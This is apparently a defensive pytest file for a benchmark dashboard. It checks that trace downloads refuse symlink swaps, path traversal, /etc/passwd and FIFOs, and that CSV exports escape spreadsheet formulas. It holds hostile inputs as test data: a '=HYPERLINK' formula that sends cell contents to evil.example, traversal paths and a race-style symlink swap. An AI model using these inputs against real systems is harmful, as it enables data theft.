"""The dashboard's downloads: trace files on the Phases page and the CSV of every table.

Traces are read only from trace files in the results folder, at the click, through no link. The unit tests swap
the file (or a folder above it) for a link between the check and the read; the browser test does the same to a
real `fp8bench dashboard` in headless Chromium: the page is drawn, the trace is replaced by a link to a secret
file, and the downloaded bytes must not be the secret. CSV downloads neutralize cells a spreadsheet would run as
formulas (checked in the browser too).
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
from pathlib import Path

import pytest
from dashboard_support import fp8bench as run_cli

pytest.importorskip("streamlit")

from fp8bench.dashboard import profiles  # noqa: E402
from tests import test_dashboard_browser as browser_tests  # noqa: E402
from tests.gate_fixtures import payload, record  # noqa: E402
from tests.test_dashboard_browser import RENDER_TIMEOUT_MS, serve, stop  # noqa: E402

shared_browser = browser_tests.browser  # the module-scoped headless Chromium fixture, under this name here


def make_trace(root: Path, text: str = '{"traceEvents": []}') -> Path:
    trace = root / "runs" / "R1.profile" / "000-gemm.pt.trace.json"
    trace.parent.mkdir(parents=True)
    trace.write_text(text)
    return trace


def swap_for_link(path: Path, target: Path) -> None:
    """Replace ``path`` by a link to ``target`` in one rename, as an attacker racing the reader would."""
    tmp = path.with_name(path.name + ".swap")
    tmp.symlink_to(target)
    os.replace(tmp, path)


def test_a_trace_is_served_as_it_is_at_the_click(tmp_path):
    trace = make_trace(tmp_path)
    assert profiles.readable_trace(str(trace), tmp_path) == trace
    trace.write_text('{"traceEvents": [1]}')  # changed after the page was drawn
    assert profiles.read_trace(str(trace), tmp_path) == b'{"traceEvents": [1]}'


def test_a_trace_swapped_for_a_link_after_drawing_is_not_followed(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET")
    trace = make_trace(tmp_path)
    assert profiles.readable_trace(str(trace), tmp_path) is not None  # the page offers the download
    swap_for_link(trace, secret)
    assert profiles.read_trace(str(trace), tmp_path) is None
    served = profiles._download(str(trace), tmp_path)
    assert b"TOP-SECRET" not in served and json.loads(served)["error"].endswith("reload the page")
    swap_for_link(trace, Path("/etc/passwd"))
    assert profiles.read_trace(str(trace), tmp_path) is None


def test_a_folder_above_the_trace_swapped_for_a_link_is_not_followed(tmp_path):
    trace = make_trace(tmp_path)
    elsewhere = tmp_path.parent / f"{tmp_path.name}-elsewhere" / "R1.profile"
    elsewhere.mkdir(parents=True)
    (elsewhere / trace.name).write_text("OTHER-FILE")
    trace.unlink()
    trace.parent.rmdir()
    trace.parent.symlink_to(elsewhere)  # the run's profile folder is now a link to a folder elsewhere
    assert (trace.parent / trace.name).read_text() == "OTHER-FILE"
    assert profiles.read_trace(str(trace), tmp_path) is None


@pytest.mark.parametrize("stored", ["/etc/passwd", "/etc/x.profile/passwd.pt.trace.json",
                                    "{root}/runs/R1.profile/../../../etc/a.pt.trace.json",
                                    "{root}/runs/notaprofile/000.pt.trace.json", None, 42])
def test_paths_outside_the_results_folder_or_not_shaped_like_a_trace_are_never_read(tmp_path, stored):
    make_trace(tmp_path)
    path = stored.format(root=tmp_path) if isinstance(stored, str) else stored
    assert profiles.readable_trace(path, tmp_path) is None and profiles.read_trace(path, tmp_path) is None


def test_a_fifo_named_like_a_trace_is_not_opened(tmp_path):
    trace = make_trace(tmp_path)
    trace.unlink()
    os.mkfifo(trace)  # opened without O_NONBLOCK this would wait for a writer forever
    assert profiles.read_trace(str(trace), tmp_path) is None


@contextlib.contextmanager
def dashboard_page(browser, results: Path, path: str = ""):
    """A page of `fp8bench dashboard` serving ``results``, in the shared headless Chromium."""
    proc, base = serve(results)
    page = browser.new_page(viewport={"width": 1400, "height": 2400})
    try:
        page.goto(f"{base}/{path}")
        yield page
    finally:
        page.close()
        stop(proc)


def click_download(page, button) -> bytes:
    with page.expect_download(timeout=RENDER_TIMEOUT_MS) as info:
        button.click()
    return Path(info.value.path()).read_bytes()


@pytest.mark.browser
@pytest.mark.slow
def test_phases_download_in_a_browser_serves_no_file_swapped_in_after_drawing(shared_browser, tmp_path):
    results = tmp_path / "results"
    out = run_cli("run", "--shape", "64x64x64", "--precision", "bf16", "--backend", "emulated", "--device", "cpu",
                  "--budget", "2", "--max-time", "0.2", "--no-energy", "--profile", "--json",
                  "--results-dir", results).stdout
    (record,) = json.loads(out.strip().splitlines()[-1])["records"]
    trace = Path(record["extra"]["profile"]["trace"])
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    with dashboard_page(shared_browser, results, "phases") as page:
        button = page.get_by_role("button", name="Download the trace of bf16 / emulated")
        button.wait_for(timeout=RENDER_TIMEOUT_MS)
        assert click_download(page, button) == trace.read_bytes()  # the trace itself, read at the click
        swap_for_link(trace, secret)  # after the page was drawn, before the click
        first = click_download(page, button)
        swap_for_link(trace, Path("/etc/passwd"))
        second = click_download(page, button)
    for served in (first, second):
        assert b"TOP-SECRET" not in served and b"root:" not in served
        assert json.loads(served)["error"].endswith("is no longer a readable trace; reload the page")


@pytest.mark.browser
@pytest.mark.slow
def test_csv_downloads_in_a_browser_neutralize_formulas_from_stored_names(shared_browser, tmp_path):
    samples = [1e-3 * (1 + i / 100) for i in range(5)]
    run = payload("csv1", [record(64, "bf16", samples), record(64, "fp8_rowwise", [s / 2 for s in samples])])
    run["run"]["device"]["name"] = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
    path = tmp_path / "run.json"
    path.write_text(json.dumps(run))
    results = tmp_path / "results"
    run_cli("ingest", path, "--results-dir", results)
    with dashboard_page(shared_browser, results) as page:
        button = page.get_by_role("button", name="Download speedups as CSV")
        button.wait_for(timeout=RENDER_TIMEOUT_MS)
        text = click_download(page, button).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows and all(r["device_label"].startswith("'=HYPERLINK(") for r in rows)
    assert all(not r["median_s"].startswith("'") for r in rows)  # numbers stay numbers
